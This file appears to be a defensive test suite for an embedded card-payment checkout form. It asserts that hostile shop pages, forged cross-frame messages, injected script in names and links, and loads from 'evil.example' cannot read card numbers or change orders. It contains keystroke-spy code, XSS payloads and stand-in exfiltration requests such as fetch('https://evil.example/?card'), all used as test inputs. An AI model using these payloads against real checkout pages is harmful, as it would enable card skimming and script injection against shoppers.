// Hostile pages, frames, messages and texts: they read no card number and change nothing.

import assert from "node:assert/strict";
import { test } from "node:test";
import {
  CARDS,
  asksFor,
  booked,
  call,
  choose,
  fillCard,
  hub,
  openLink,
  openTag,
  paysByCard,
  session,
  shop,
  shopper,
  submit,
  tagPage,
  until,
} from "./harness.mjs";

const inFrame = (page) => page.frameLocator("iframe").locator("[data-state]");
const named = (origins) => call("PATCH", "/v1/settings", { checkoutOrigins: origins });
const bare = (body) =>
  `<!doctype html><html lang="pt"><meta charset="utf-8"><title>Loja</title>
    <body><main><h1>Loja</h1>${body}</main></body></html>`;
const FRAMED = ["frame-ancestors", "ERR_BLOCKED_BY_RESPONSE"];

test("a hostile page of a shop reads no card number, security code or key stroke", async (t) => {
  const { page } = await shopper(t);
  const order = await session();
  const spy = `<script>
    const seen = [];
    addEventListener("message", ({ data }) => seen.push(JSON.stringify(data)), true);
    for (const name of ["keydown", "input", "paste", "change"]) {
      addEventListener(name, (event) => seen.push(event.key ?? event.target.value), true);
    }
    function look() {
      const frame = document.querySelector("catraca-checkout").shadowRoot.querySelector("iframe");
      const tries = [() => frame.contentDocument?.body.innerHTML, () => frame.contentWindow.document.body.innerHTML,
        () => frame.contentWindow.eval("1"), () => frame.contentWindow.sessionStorage.length];
      return tries.map((each) => { try { return String(each()); } catch (error) { return error.name; } });
    }</script>`;
  await page.goto(await shop(t, { "/": tagPage(order).replace("</body>", `${spy}</body>`) }));
  const checkout = inFrame(page);
  await fillCard(checkout, CARDS.generic, "987");
  await submit(checkout).click();
  await checkout.getByRole("alert").getByText("O código de segurança está errado.").waitFor();
  await fillCard(checkout, CARDS.approved, "320");
  assert.deepEqual(await page.evaluate(() => look()), ["undefined", "SecurityError", "SecurityError", "SecurityError"]);
  await submit(checkout).click();
  await until(checkout, "paid");
  await page.waitForFunction(() => events.some(([name]) => name === "paymentSuccess"));
  const known = await page.evaluate(() =>
    JSON.stringify([seen, events, { ...localStorage }, { ...sessionStorage }, document.documentElement.outerHTML]),
  );
  for (const secret of [CARDS.generic, CARDS.approved, "4000 0000", "987", '"320"']) {
    assert.ok(!known.includes(secret), secret);
  }
  const answers = await page.evaluate(() => JSON.stringify([seen, events]));
  assert.ok(!answers.includes(order.publicKey));
  assert.deepEqual(await booked(order), ["credit failed", "credit authorized"]);
});

test("only origins that the merchant names can frame the form, and no page can frame the hosted one", async (t) => {
  t.after(() => named([]));
  const order = await session();
  const pages = { "/": tagPage(order) };
  const good = await shop(t, pages);
  const evil = await shop(t, {
    "/tag": tagPage(order),
    "/around": bare(`<iframe title="Loja" src="${good}/"></iframe>`),
    "/link": bare(`<iframe title="Loja" src="${order.paymentLink}"></iframe>`),
  });
  await named([good]);
  const { page } = await shopper(t, { expects: FRAMED });
  await page.goto(`${good}/`);
  await until(inFrame(page), "choose");
  for (const path of ["/tag", "/around", "/link"]) {
    const blocked = page.waitForEvent("console", (line) => line.text().includes("frame-ancestors"));
    await page.goto(evil + path);
    await blocked;
    const forms = await Promise.all(
      page.frames().map((frame) =>
        frame
          .locator("[data-state]")
          .count()
          .catch(() => 0),
      ),
    );
    assert.deepEqual(forms.filter(Boolean), [], path);
  }
  assert.deepEqual(await booked(order), []);
});

test("a page that has no origin gets no form", async (t) => {
  const order = await session();
  const { context, page } = await shopper(t, { expects: FRAMED });
  let isFramed = false;
  // A page without an origin cannot load from this machine by itself: the answers are handed to it.
  await context.route(`${hub.url}/**`, async (route) => {
    const response = await route.fetch();
    const headers = { ...response.headers() };
    if (isFramed) delete headers["content-security-policy"];
    await route.fulfill({ response, headers });
  });
  const address = `data:text/html,${encodeURIComponent(tagPage(order))}`;
  const blocked = page.waitForEvent("console", (line) => line.text().includes("frame-ancestors"));
  await page.goto(address);
  await blocked;
  // Where a browser frames the form all the same, the form does not answer the page.
  isFramed = true;
  await page.goto(address);
  const frame = await (await page.locator("iframe").elementHandle()).contentFrame();
  await frame.waitForLoadState();
  const arrived = await frame.evaluate(() => {
    const message = new Promise((resolve) => addEventListener("message", resolve));
    parent.postMessage({ catraca: 1, type: "ready" }, "*"); // the tag sends its session once more
    return message.then(({ origin, data }) => [origin, data.type]);
  });
  assert.deepEqual(arrived, ["null", "init"]);
  assert.equal(await frame.locator("[data-state]").count(), 0);
  assert.deepEqual(await booked(order), []);
});

test("messages of strangers change nothing: neither in the page nor in the form", async (t) => {
  const { page } = await shopper(t);
  const [order, other] = [await session(), await session({ name: "Outra", amount: 100 })];
  const evil = await shop(
    t,
    {
      "/": bare(`<script>
    const forged = [
      { type: "paymentSuccess", detail: { status: "paid" } }, { type: "redirect", url: "https://evil.example/" },
      { type: "height", height: 1 }, { type: "ready" }];
    const orders = [
      { type: "init", publicKey: "${other.publicKey}", clientId: "${hub.clientId}", sessionId: "${other.id}",
        locale: "en" },
      { type: "locale", locale: "en" }, { type: "ready" }, { type: "paymentSuccess" }];
    addEventListener("message", () => {
      for (const each of forged) parent.postMessage({ catraca: 1, ...each }, "*");
      // The form is the first frame of the shop's page: any window can be reached by its place.
      for (let at = 0; at < parent.length; at += 1) {
        for (const each of orders) parent[at].postMessage({ catraca: 1, ...each }, "*");
      }
      parent.postMessage("done", "*");
    }, { once: true });</script>`),
    },
    "127.0.0.1",
  );
  const html = tagPage(order).replace("</main>", `</main><iframe id="evil" title="Anúncio" src="${evil}/"></iframe>`);
  const address = await shop(t, { "/": html });
  await page.goto(address);
  const checkout = page.frameLocator("catraca-checkout iframe").locator("[data-state]");
  await until(checkout, "choose");
  const before = await page.evaluate(() => events.length);
  await page.evaluate(async () => {
    const done = new Promise((resolve) => addEventListener("message", ({ data }) => data === "done" && resolve()));
    document.getElementById("evil").contentWindow.postMessage("go", "*");
    await done;
    // The page's own messages, and those of a window that it opens, are no frame's either.
    postMessage({ catraca: 1, type: "paymentSuccess", detail: { status: "paid" } }, "*");
    await new Promise((resolve) => addEventListener("message", resolve, { once: true }));
  });
  await checkout.getByText("Número do cartão").waitFor();
  assert.equal(page.url(), `${address}/`);
  assert.equal(await page.evaluate(() => events.length), before);
  await paysByCard(checkout);
  assert.deepEqual(await booked(order), ["credit authorized"]);
  assert.deepEqual(await booked(other), []);
});

test("the form takes its session from the page that embeds it, not from whoever is first", async (t) => {
  const { page } = await shopper(t);
  const [order, other] = [await session(), await session({ amount: 100 })];
  const init = ({ id, publicKey }, locale) =>
    JSON.stringify({ catraca: 1, type: "init", publicKey, clientId: hub.clientId, sessionId: id, locale });
  const evil = await shop(
    t,
    {
      "/": bare(`<script>addEventListener("message", () => {
    parent[0].postMessage(${init(other, "en")}, "*");
    parent.postMessage("done", "*");
  });</script>`),
    },
    "127.0.0.1",
  );
  const html = bare(`<iframe title="Pagamento" src="${hub.url}/checkout/frame/${order.id}"></iframe>
    <iframe title="Anúncio" src="${evil}/"></iframe><script>
    const open = Promise.withResolvers();
    addEventListener("load", () => open.promise.then(() => frames[1].postMessage("go", "*")));
    addEventListener("message", ({ data }) => {
      if (data?.type === "ready") open.resolve();
      if (data === "done") frames[0].postMessage(${init(order, "es")}, "*");
    });</script>`);
  await page.goto(await shop(t, { "/": html }));
  const checkout = page.frameLocator("iframe").first().locator("[data-state]");
  await until(checkout, "choose");
  assert.equal(await checkout.evaluate(() => document.documentElement.lang), "es");
  assert.deepEqual([await booked(order), await booked(other)], [[], []]);
});

test("the page that embeds the form cannot open another session in it, once it is open", async (t) => {
  const { page } = await shopper(t);
  const [order, other] = [await session(), await session({ amount: 100 })];
  const checkout = await openTag(t, page, order);
  await page.evaluate(
    ([publicKey, clientId, sessionId]) => {
      const { contentWindow } = document.querySelector("catraca-checkout").shadowRoot.querySelector("iframe");
      contentWindow.postMessage({ catraca: 1, type: "init", publicKey, clientId, sessionId, locale: "en" }, "*");
      contentWindow.postMessage({ catraca: 1, type: "locale", locale: "<img src=x>" }, "*");
      contentWindow.postMessage({ catraca: 1, type: "locale", locale: "es" }, "*"); // this one it may
    },
    [other.publicKey, hub.clientId, other.id],
  );
  await checkout.getByText("Número de la tarjeta").waitFor();
  await checkout.getByRole("button", { name: /259,90/ }).waitFor();
  assert.deepEqual(await booked(order), []);
});

test("a frame that is not the hub's own form sends the page nowhere but to https", async (t) => {
  const { context, page } = await shopper(t);
  const order = await session();
  const html = `<!doctype html><script>
    parent.postMessage({ catraca: 1, type: "ready" }, "*");
    addEventListener("message", () => {
      const nowhere = ["javascript:document.title='run'", "data:text/html,x", "http://evil.example/", "file:///x", 7];
      for (const url of nowhere) {
        parent.postMessage({ catraca: 1, type: "redirect", url }, "*");
      }
      parent.postMessage({ catraca: 1, type: "height", height: 1e9 }, "*");
      parent.postMessage({ catraca: 1, type: "unknown" }, "*");
      parent.postMessage({ catraca: 1, type: "state", state: "done" }, "*");
    });</script>`;
  await context.route("**/checkout/frame/**", (route) => route.fulfill({ contentType: "text/html", body: html }));
  const address = await shop(t, { "/": tagPage(order) });
  await page.goto(address);
  await page.waitForFunction(() => events.length === 1);
  assert.equal(page.url(), `${address}/`);
  assert.equal(await page.title(), "Loja");
  const height = await page.evaluate(
    () => document.querySelector("catraca-checkout").shadowRoot.querySelector("iframe").offsetHeight,
  );
  assert.ok(height <= 20_000);
  assert.deepEqual(await booked(order), []);
});

test("names and items with script in them are text", async (t) => {
  const script = (name) => `<img src=x onerror="window.ran='${name}'"><script>window.ran='${name}'</script>`;
  t.after(() => call("PATCH", "/v1/settings", { companyName: "" }));
  await call("PATCH", "/v1/settings", { companyName: script("company") });
  const order = await session({
    name: script("session"),
    description: script("description"),
    items: [{ name: script("item"), description: script("about"), unitPrice: 25990, quantity: 1 }],
  });
  const { page } = await shopper(t);
  const checkout = await openLink(page, order);
  for (const name of ["company", "session", "item", "about"]) await page.getByText(script(name)).first().waitFor();
  await asksFor(checkout, "boleto");
  await checkout.getByText(script("company")).waitFor();
  assert.equal(await page.evaluate(() => window.ran), undefined);
  assert.equal(await page.locator("img[src=x]").count(), 0);
  assert.deepEqual(await booked(order), ["boleto pending"]);
});

test("a script in the fragment of a link is no key, and leaves the address too", async (t) => {
  const { page } = await shopper(t, { expects: [400, 403] });
  const order = await session();
  await page.goto(`${hub.url}/pay/${order.id}#<img src=x onerror=alert(1)>`);
  await page.getByText("Este endereço está incompleto.").waitFor();
  assert.equal(page.url(), `${hub.url}/pay/${order.id}`);
  await page.goto(`${hub.url}/pay/${order.id}#${"5f3f1a5e-3c1b-4a77-9a3b-52a9f8e5a002"}`);
  await until(page.locator("[data-state]"), "closed");
  assert.deepEqual(await booked(order), []);
});

test('sandbox="true" opens no form at a hub where real money moves', async (t) => {
  const { context, page } = await shopper(t);
  const order = await session();
  await context.route("**/checkout/frame/**", async (route) => {
    const answer = await route.fetch();
    const html = (await answer.text()).replace('data-sandbox="true"', 'data-sandbox="false"');
    await route.fulfill({ response: answer, body: html });
  });
  const pages = {
    "/test": tagPage(order, { attributes: 'sandbox="true"' }),
    "/live": tagPage(order, { attributes: 'sandbox="false"' }),
  };
  const address = await shop(t, pages);
  await page.goto(`${address}/test`);
  await page.frameLocator("iframe").getByText("não recebe pagamentos").waitFor();
  await page.waitForFunction(() => events.some(([name]) => name === "paymentFailed"));
  assert.equal(await page.frameLocator("iframe").locator("input").count(), 0);
  await page.goto(`${address}/live`);
  await until(inFrame(page), "choose");
  assert.deepEqual(await booked(order), []);
});

test("what does not belong to the hub's page is not loaded and not run", async (t) => {
  const { page } = await shopper(t, {
    expects: ["Content Security Policy", "requires 'Trusted", "This document requires"],
  });
  const order = await session();
  await openLink(page, order);
  const tries = await page.evaluate(async () => {
    window.violated = new Set();
    document.addEventListener("securitypolicyviolation", (event) => window.violated.add(event.effectiveDirective));
    const image = Object.assign(new Image(), { src: "https://evil.example/card.gif" });
    await new Promise((resolve) => image.addEventListener("error", resolve));
    const script = document.createElement("script");
    const named = (work) =>
      Promise.resolve()
        .then(work)
        .then(
          () => "done",
          (error) => error.name,
        );
    return [
      await named(() => (script.src = "https://evil.example/card.js")),
      await named(() => (script.textContent = "window.ran = true")),
      await named(() => (document.body.innerHTML = "<p onclick=alert(1)>")),
      await named(() => fetch("https://evil.example/?card")),
    ];
  });
  assert.deepEqual(tries, ["TypeError", "TypeError", "TypeError", "TypeError"]);
  const all = ["connect-src", "img-src", "require-trusted-types-for"];
  await page.waitForFunction((directives) => directives.every((each) => window.violated.has(each)), all);
  assert.equal(await page.evaluate(() => window.ran), undefined);
  assert.deepEqual(await booked(order), []);
});
